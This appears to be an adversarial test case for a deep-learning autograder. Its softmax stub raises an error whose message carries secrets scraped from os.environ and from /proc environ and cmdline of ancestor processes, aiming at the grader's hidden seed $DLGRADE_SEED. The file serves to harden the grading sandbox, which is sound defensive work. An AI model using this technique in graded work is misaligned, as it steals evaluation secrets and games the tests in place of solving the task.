"""Attack: read the grader's secrets from environments and command lines.

Tries: os.environ, then /proc/<pid>/environ and /proc/<pid>/cmdline of every ancestor
(the grading process holds $DLGRADE_SEED, the secret seed of the hidden examples); the
findings go into an exception message, hence into the feedback.
Would gain: the secret grading seed, which tells which examples the hidden tests draw.
Must stop it: the worker's environment is scrubbed and a PID namespace hides its
ancestors.
"""

import os


def _parent(pid: int) -> int:
    """The parent of ``pid`` from /proc (0 if it cannot be read)."""
    try:
        line = open(f"/proc/{pid}/stat").read()
    except OSError:
        return 0
    return int(line.rsplit(")", 1)[1].split()[1])  # the field after the command's name


def _ancestors() -> list[int]:
    """This process's Python ancestors (the grader's processes), parent first."""
    pids, pid = [], _parent(os.getpid())
    while pid > 1:
        try:
            if b"python" not in open(f"/proc/{pid}/cmdline", "rb").read():
                break
        except OSError:
            break
        pids.append(pid)
        pid = _parent(pid)
    return pids


def _secrets() -> str:
    found = [f"{k}={v}" for k, v in os.environ.items() if "SEED" in k.upper() or k.startswith("DLGRADE")]
    for pid in _ancestors():
        for what in ("environ", "cmdline"):
            try:
                data = open(f"/proc/{pid}/{what}", "rb").read()
            except OSError:
                continue
            found += [f"{pid}/{what}: {item.decode(errors='replace')}" for item in data.split(b"\0")
                      if b"SEED" in item.upper() or b"DLGRADE" in item]
    return "; ".join(found) or "no secret found"


def softmax(O):
    raise ValueError(_secrets())


def cross_entropy(y_hat, y):
    raise NotImplementedError


def softmax_cross_entropy(O, y):
    raise NotImplementedError


def softmax_cross_entropy_grad(O, y):
    raise NotImplementedError


def accuracy(y_hat, y):
    raise NotImplementedError
